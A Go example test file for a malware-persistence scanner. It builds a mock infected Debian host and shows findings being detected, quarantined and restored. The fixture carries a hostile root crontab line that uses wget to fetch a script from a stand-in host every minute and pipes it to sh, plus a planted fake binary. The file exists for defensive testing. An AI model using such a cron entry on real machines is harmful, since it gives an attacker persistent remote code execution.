package persist_test

import (
	"context"
	"fmt"
	"log"
	"os"
	"strings"

	"github.com/abusekit/abusekit/plugins/persist"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// A snapshot volume of an infected Debian host, built here from Go; in
// real use Root is the volume's mount point (or "/" for the live host).
func infectedRoot() string {
	dir, err := os.MkdirTemp("", "persist-example-")
	if err != nil {
		log.Fatal(err)
	}
	tree := hosttest.Debian12().
		Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime).
		With(hosttest.Entry{Path: "/tmp/.X11-unix/.work32", Data: hosttest.FakeELF("work32"), Mode: 0o755})
	if err := hosttest.Write(dir, tree); err != nil {
		log.Fatal(err)
	}
	return dir
}

func ExampleFind() {
	root := infectedRoot()
	defer os.RemoveAll(root)

	findings, err := persist.Find(context.Background(), persist.Options{Root: root})
	if err != nil {
		log.Fatal(err)
	}
	for _, f := range findings {
		if f.Severity >= persist.Medium {
			fmt.Printf("%s %s line %d: %s\n", f.Severity, f.Path, f.Line, f.Reasons[0])
		}
	}
	// Output:
	// critical /etc/crontab line 24: downloads a script and pipes it to a shell
	// critical /tmp/.X11-unix/.work32 line 0: ELF binary dropped in a world-writable directory
}

func ExampleApply() {
	root := infectedRoot()
	defer os.RemoveAll(root)
	quarantine, _ := os.MkdirTemp("", "quarantine-")
	defer os.RemoveAll(quarantine)
	ctx := context.Background()

	findings, err := persist.Find(ctx, persist.Options{Root: root})
	if err != nil {
		log.Fatal(err)
	}
	plan, err := persist.Plan(ctx, findings, persist.PlanOptions{Root: root}) // acts on high and critical
	if err != nil {
		log.Fatal(err)
	}
	for _, c := range plan.Changes {
		fmt.Print(c.Op, " ", c.Path)
		for _, l := range c.Lines {
			fmt.Printf(" [line %d: %s]", l.Line, l.Content)
		}
		fmt.Println()
	}
	res, err := persist.Apply(ctx, plan, persist.ApplyOptions{QuarantineDir: quarantine})
	if err != nil {
		log.Fatal(err)
	}
	crontab, _ := os.ReadFile(root + "/etc/crontab")
	fmt.Println("bad line still there:", strings.Contains(string(crontab), "203.0.113.7"))

	// Everything comes back, byte for byte.
	if _, err := persist.Restore(ctx, res.ManifestPath, persist.RestoreOptions{}); err != nil {
		log.Fatal(err)
	}
	crontab, _ = os.ReadFile(root + "/etc/crontab")
	fmt.Println("after restore:", strings.Contains(string(crontab), "203.0.113.7"))
	// Output:
	// quarantine /tmp/.X11-unix/.work32
	// remove-lines /etc/crontab [line 24: * * * * * root wget -q -O - http://203.0.113.7/y.sh | sh]
	// bad line still there: false
	// after restore: true
}
